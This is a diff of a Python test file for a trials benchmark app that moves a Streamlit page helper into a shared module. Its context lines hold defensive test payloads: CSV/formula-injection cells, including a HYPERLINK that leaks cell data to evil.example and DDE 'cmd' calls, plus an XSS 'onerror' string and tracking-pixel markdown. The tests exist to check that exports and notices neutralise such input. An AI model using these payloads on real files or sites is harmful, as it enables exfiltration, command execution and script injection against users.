@@ -12,20 +12,18 @@ import re
 import subprocess
 import sys
 import zipfile
-from collections.abc import Iterator
 from importlib import resources
 from pathlib import Path
 
 import polars as pl
 import pytest
-import streamlit as st
 from markdown_it import MarkdownIt
 from sqlalchemy import update
-from streamlit.testing.v1 import AppTest
 
 from db.engine import make_engine
 from db.reader import RUNS
 from tests.conftest import ROOT
+from tests.helpers import run_page
 from trials.analytics.rankings import Filters
 from trials.present.export import to_csv, to_xlsx
 from trials.source.synth import generate
@@ -33,7 +31,6 @@ from trials.source.synth import generate
 #: Cells a spreadsheet runs (OWASP's list): a formula, a DDE call, an @-function, a leading tab or CR.
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Klinikum")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
-APP = str(ROOT / "benchmark_app" / "streamlit_app.py")
 
 
 def trials(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
@@ -135,24 +132,6 @@ def test_the_decks_chart_workbooks_hold_no_formulas(real_db_url: str, tmp_path: 
 # -- defect 5: markdown injection through shared links and registry text ---------------------------------------------
 
 
-@pytest.fixture
-def app_caches() -> Iterator[None]:
-    st.cache_data.clear()
-    st.cache_resource.clear()
-    yield
-    st.cache_resource.clear()
-
-
-def run_page(page: str, **params: str | list[str]) -> AppTest:
-    at = AppTest.from_file(APP, default_timeout=60)
-    for k, v in params.items():
-        at.query_params[k] = v
-    at.switch_page(f"app_pages/{page}.py")
-    at.run()
-    assert not at.exception, [e.value for e in at.exception]
-    return at
-
-
 def rendered(markdown: str) -> str:
     """The HTML a CommonMark renderer makes of ``markdown`` (Streamlit renders notices as markdown)."""
     return str(MarkdownIt("commonmark").render(markdown))
@@ -163,7 +142,7 @@ IMAGE = "![t](https://tracker.example/pixel.png)"
 STAMP = "![t](http://t.example/p.png)"  # fits the data_timestamp column (32 characters)
 
 
-def test_link_values_in_notices_are_shown_as_text(real_db_url: str, app_caches: None,
+def test_link_values_in_notices_are_shown_as_text(real_db_url: str,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
     monkeypatch.setenv("TRIALS_DB_URL", real_db_url)
     at = run_page("rankings", region=LINK, by="<img src=x onerror=alert(1)>", phase=[IMAGE, "phase2"],
@@ -177,7 +156,7 @@ def test_link_values_in_notices_are_shown_as_text(real_db_url: str, app_caches: 
     assert "evil.example/login" in rendered(notices[0])
 
 
-def test_the_registry_data_timestamp_is_shown_as_text(real_db_copy: str, app_caches: None,
+def test_the_registry_data_timestamp_is_shown_as_text(real_db_copy: str,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
     engine = make_engine(real_db_copy)
     with engine.begin() as conn:
